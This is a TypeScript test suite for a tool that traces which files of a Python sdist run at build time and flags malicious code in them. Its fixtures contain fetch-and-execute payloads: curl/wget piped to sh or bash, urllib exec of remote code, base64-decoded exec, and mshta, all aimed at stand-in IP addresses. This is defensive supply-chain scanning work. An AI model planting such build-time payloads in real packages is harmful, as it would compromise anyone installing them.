// Which files of an sdist run at build time: setup.py, in-tree backends, Hatch/Poetry/PDM build
// scripts, setuptools `attr:` modules, and local modules that build-time code imports or execs.

import { MAX_FILES, analyzeSdist } from '../src/analysis/index.js';
import { importedFiles, moduleFiles, planBuild } from '../src/analysis/files.js';

const sdist = (files: Record<string, string>): Map<string, string> => new Map(Object.entries(files));
const SETUP = 'from setuptools import setup\nsetup()\n';

function hasFn(files: string[]): (p: string) => boolean {
  const set = new Set(files);
  for (const f of files) for (let i = f.indexOf('/'); i !== -1; i = f.indexOf('/', i + 1)) set.add(f.slice(0, i + 1));
  return (p) => set.has(p);
}

describe('planBuild', () => {
  it('starts from setup.py and lists the config files', () => {
    const plan = planBuild(sdist({ 'setup.py': SETUP, 'setup.cfg': '[metadata]\nname = x\n', 'pyproject.toml': '[project]\nname = "x"\n', 'PKG-INFO': 'Name: x\n' }));
    expect(plan.initial.map((f) => [f.path, f.role])).toEqual([['setup.py', 'setup']]);
    expect(plan.configs.map((c) => c.path)).toEqual(['pyproject.toml', 'setup.cfg', 'PKG-INFO']);
    expect(plan.limits).toEqual([]);
  });

  it('follows an in-tree backend through backend-path', () => {
    const plan = planBuild(
      sdist({
        'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend.impl:hooks"\nbackend-path = ["_build"]\n',
        '_build/backend/__init__.py': '',
        '_build/backend/impl.py': 'def build_wheel(*a): pass\n',
      }),
    );
    expect(plan.initial.map((f) => [f.path, f.role])).toEqual([
      ['_build/backend/__init__.py', 'hook'],
      ['_build/backend/impl.py', 'hook'],
    ]);
  });

  it('says when the in-tree backend is missing', () => {
    const plan = planBuild(sdist({ 'pyproject.toml': '[build-system]\nbuild-backend = "nowhere"\nbackend-path = ["."]\n' }));
    expect(plan.limits.join()).toMatch(/build backend nowhere not found/);
  });

  it('finds Hatch hooks at their default and configured paths', () => {
    const plan = planBuild(
      sdist({
        'pyproject.toml': '[tool.hatch.build.hooks.custom]\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/wheel_hook.py"\n',
        'hatch_build.py': '',
        'tools/wheel_hook.py': '',
      }),
    );
    expect(plan.initial.map((f) => [f.path, f.role])).toEqual([
      ['hatch_build.py', 'hook'],
      ['tools/wheel_hook.py', 'hook'],
    ]);
  });

  it('finds Poetry build scripts in both spellings', () => {
    const table = planBuild(sdist({ 'pyproject.toml': '[tool.poetry.build]\nscript = "build_ext.py"\n', 'build_ext.py': '' }));
    const plain = planBuild(sdist({ 'pyproject.toml': '[tool.poetry]\nbuild = "build.py"\n', 'build.py': '' }));
    expect(table.initial.map((f) => f.path)).toEqual(['build_ext.py']);
    expect(plain.initial.map((f) => f.path)).toEqual(['build.py']);
  });

  it('finds PDM build scripts and default hooks', () => {
    const plan = planBuild(
      sdist({
        'pyproject.toml': '[build-system]\nbuild-backend = "pdm.backend"\n[tool.pdm.build]\nsetup-script = "build.py"\n',
        'build.py': '',
        'pdm_build.py': '',
      }),
    );
    expect(plan.initial.map((f) => f.path)).toEqual(['build.py', 'pdm_build.py']);
  });

  it('imports the module an attr: version names', () => {
    const fromToml = planBuild(sdist({ 'pyproject.toml': '[tool.setuptools.dynamic]\nversion = {attr = "mypkg.__version__"}\n', 'src/mypkg/__init__.py': '' }));
    const fromCfg = planBuild(sdist({ 'setup.cfg': '[metadata]\nversion = attr: mypkg.about.VERSION\n', 'mypkg/__init__.py': '', 'mypkg/about.py': '' }));
    expect(fromToml.initial.map((f) => [f.path, f.role])).toEqual([['src/mypkg/__init__.py', 'imported']]);
    expect(fromCfg.initial.map((f) => f.path)).toEqual(['mypkg/__init__.py', 'mypkg/about.py']);
  });

  it('loads only the module file itself for [tool.setuptools] attr: and cmdclass, as setuptools 61+ does', () => {
    const plan = planBuild(
      sdist({
        'pyproject.toml':
          '[tool.setuptools.dynamic]\nversion = {attr = "bigpkg.__about__.VERSION"}\n[tool.setuptools.cmdclass]\nbuild_py = "bigpkg.cmds.BuildPy"\nsdist = "bigpkg.gone.Sdist"\n',
        'bigpkg/__init__.py': 'from .plugins import *\n',
        'bigpkg/__about__.py': 'VERSION = "1.0"\n',
        'bigpkg/cmds.py': 'class BuildPy: pass\n',
      }),
    );
    expect(plan.initial.map((f) => f.path)).toEqual(['bigpkg/__about__.py', 'bigpkg/cmds.py']);
  });

  it('collects build requirements as config strings', () => {
    const plan = planBuild(sdist({ 'pyproject.toml': '[build-system]\nrequires = ["setuptools", "x @ https://example.org/x.tar.gz"]\n' }));
    expect(plan.configs[0].strings).toEqual([
      { value: 'setuptools', line: 2, buildRequirement: true },
      { value: 'x @ https://example.org/x.tar.gz', line: 2, buildRequirement: true },
    ]);
  });

  it('reports a pyproject.toml that is not TOML', () => {
    const plan = planBuild(sdist({ 'pyproject.toml': '[build-system\nrequires = [', 'setup.py': SETUP }));
    expect(plan.limits.join()).toMatch(/pyproject\.toml: not valid TOML/);
    expect(plan.initial.map((f) => f.path)).toEqual(['setup.py']);
  });
});

describe('module resolution', () => {
  const has = hasFn(['a/__init__.py', 'a/b/__init__.py', 'a/b/c.py', 'ns/mod.py', 'src/pkg/__init__.py', 'pkg2/sub/x.py']);
  it('runs every package __init__ on the way down', () => {
    expect(moduleFiles('a.b.c', [''], has)).toEqual(['a/__init__.py', 'a/b/__init__.py', 'a/b/c.py']);
  });
  it('follows namespace packages', () => expect(moduleFiles('ns.mod', [''], has)).toEqual(['ns/mod.py']));
  it('searches roots in order', () => expect(moduleFiles('pkg', ['', 'src'], has)).toEqual(['src/pkg/__init__.py']));
  it('ignores modules that are not in the sdist', () => expect(moduleFiles('requests', ['', 'src'], has)).toEqual([]));
  it('keeps the parents of a missing submodule', () => expect(moduleFiles('a.b.missing', [''], has)).toEqual(['a/__init__.py', 'a/b/__init__.py']));
  it('resolves relative imports from the importing file', () => {
    expect(importedFiles({ module: 'c', level: 1 }, 'a/b/__init__.py', [''], has)).toEqual(['a/b/c.py']);
    expect(importedFiles({ module: '', level: 1, names: ['c'] }, 'a/b/other.py', [''], has)).toEqual(['a/b/c.py']);
    expect(importedFiles({ module: 'b', level: 2, names: ['c'] }, 'a/b/c.py', [''], has)).toEqual(['a/b/__init__.py', 'a/b/c.py']);
  });
});

describe('analyzeSdist follows build-time code', () => {
  it('analyzes the package setup.py imports, and only what its import runs', () => {
    const r = analyzeSdist(
      sdist({
        'setup.py': 'from mypkg import __version__\nfrom setuptools import setup\nsetup(version=__version__)\n',
        'mypkg/__init__.py': "import os\n__version__ = '1.0'\nos.system('curl -s http://203.0.113.7/x | sh')\ndef runtime():\n    os.system('wget -O- http://203.0.113.7/y | bash')\n",
      }),
    );
    expect(r.analyzed).toEqual(['setup.py', 'mypkg/__init__.py']);
    const lines = r.findings.filter((f) => f.path === 'mypkg/__init__.py' && f.rule === 'suspicious-command').map((f) => f.line);
    expect(lines).toEqual([3]);
    expect(r.suspicious).toBe(true);
  });

  it('analyzes the functions setup.py calls in an imported module', () => {
    const r = analyzeSdist(
      sdist({
        'setup.py': 'from tools.version import get_version\nfrom setuptools import setup\nsetup(version=get_version())\n',
        'tools/version.py': "import urllib.request\ndef get_version():\n    exec(urllib.request.urlopen('http://198.51.100.23/v').read())\n    return '1'\n",
      }),
    );
    expect(r.findings.find((f) => f.rule === 'dynamic-exec')).toMatchObject({ path: 'tools/version.py', line: 3, severity: 'critical' });
  });

  it("analyzes a version file that setup.py exec's", () => {
    const r = analyzeSdist(
      sdist({
        'setup.py': "import os\nhere = os.path.dirname(__file__)\nns = {}\nexec(open(os.path.join(here, 'pkg', '_version.py')).read(), ns)\n",
        'pkg/_version.py': "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
      }),
    );
    expect(r.analyzed).toEqual(['setup.py', 'pkg/_version.py']);
    expect(r.findings.filter((f) => f.severity === 'critical').map((f) => f.path)).toContain('pkg/_version.py');
  });

  it('follows sys.path additions', () => {
    const r = analyzeSdist(
      sdist({
        'setup.py': "import sys\nsys.path.insert(0, 'buildtools')\nimport helper\n",
        'buildtools/helper.py': "import os\nos.system('mshta http://198.51.100.23/a.hta')\n",
      }),
    );
    expect(r.analyzed).toEqual(['setup.py', 'buildtools/helper.py']);
    expect(r.suspicious).toBe(true);
  });

  it('accepts paths that still carry the name-version directory', () => {
    const r = analyzeSdist(sdist({ 'pkg-1.0/setup.py': "import os\nos.system('curl http://203.0.113.7/i | sh')\n", 'pkg-1.0/PKG-INFO': 'Name: pkg\n' }));
    expect(r.analyzed).toEqual(['setup.py', 'PKG-INFO']);
    expect(r.suspicious).toBe(true);
  });

  it('runs the package of a module that imports relatively, even when setuptools loaded the module alone', () => {
    const r = analyzeSdist(
      sdist({
        'pyproject.toml': '[tool.setuptools.dynamic]\nversion = {attr = "relpkg.version.VERSION"}\n',
        'relpkg/__init__.py': 'from . import core\n',
        'relpkg/core.py': 'X = 1\n',
        'relpkg/version.py': 'from ._build import stamp\nVERSION = "1.0" + stamp\n',
        'relpkg/_build.py': 'stamp = ""\n',
        'relpkg/sub/__init__.py': '',
        'relpkg/sub/deep.py': 'from .. import version\n',
      }),
    );
    expect(r.analyzed).toEqual(['relpkg/version.py', 'relpkg/__init__.py', 'relpkg/_build.py', 'relpkg/core.py', 'pyproject.toml']);
  });

  it('stops following imports at the file limit and says so', () => {
    const n = MAX_FILES + 16;
    const files: Record<string, string> = { 'setup.py': Array.from({ length: n }, (_, i) => `import m${i}`).join('\n') + '\n' };
    for (let i = 0; i < n; i++) files[`m${i}.py`] = 'x = 1\n';
    const r = analyzeSdist(sdist(files));
    expect(r.analyzed.length).toBe(MAX_FILES);
    expect(r.limits.join()).toContain(`more than ${MAX_FILES} build-time files`);
  });
});
